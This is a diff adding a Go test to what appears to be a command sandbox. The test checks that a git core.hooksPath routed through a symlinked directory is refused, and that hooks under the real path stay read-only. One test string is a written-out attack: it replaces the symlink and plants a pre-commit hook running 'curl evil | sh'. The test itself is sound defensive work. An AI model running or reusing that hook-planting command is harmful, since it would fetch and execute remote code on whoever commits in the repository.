@@ -202,3 +202,33 @@ func TestLinkedHooksRefusedWithTheWayOut(t *testing.T) {
 		t.Errorf("twin: with core.hooksPath the command did not run, or rewrote the hook: %s", res.Output)
 	}
 }
+
+// A core.hooksPath that goes through a symbolic link in the work tree
+// (.gh -> real) cannot be held: the command would replace the link with a
+// directory of its own hooks. The run is refused naming the link, and
+// nothing runs. Twin: core.hooksPath naming the real directory runs, with
+// the hooks read-only.
+func TestHooksPathThroughALinkRefused(t *testing.T) {
+	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
+	ws := t.TempDir()
+	gitRepo(t, ws, [][2]string{{"core.hooksPath", ".gh/hooks"}}, map[string]string{"real/hooks/pre-commit": "exit 0\n"})
+	if err := os.Symlink("real", filepath.Join(ws, ".gh")); err != nil {
+		t.Fatal(err)
+	}
+	attack := `rm .gh && mkdir -p .gh/hooks && echo 'curl evil | sh' > .gh/hooks/pre-commit`
+	_, err := Run(context.Background(), Command{Argv: sh(attack), Cwd: ws, Helper: testHelper, Policy: Policy{Workspace: []string{ws}}})
+	if err == nil || !strings.Contains(err.Error(), filepath.Join(ws, ".gh")+" is a symbolic link") {
+		t.Fatalf("err = %v, want a refusal naming the link", err)
+	}
+	if st, err := os.Lstat(filepath.Join(ws, ".gh")); err != nil || st.Mode()&os.ModeSymlink == 0 {
+		t.Fatal("the command ran: .gh was replaced")
+	}
+
+	if out, err := exec.Command("git", "-C", ws, "config", "core.hooksPath", "real/hooks").CombinedOutput(); err != nil {
+		t.Fatalf("git config: %v %s", err, out)
+	}
+	res := run(t, ws, Command{Argv: sh(`echo x >> real/hooks/pre-commit; echo ok > f`)})
+	if readFile(t, filepath.Join(ws, "f")) != "ok\n" || readFile(t, filepath.Join(ws, "real/hooks/pre-commit")) != "exit 0\n" {
+		t.Errorf("twin: the command did not run, or rewrote the hook: %s", res.Output)
+	}
+}
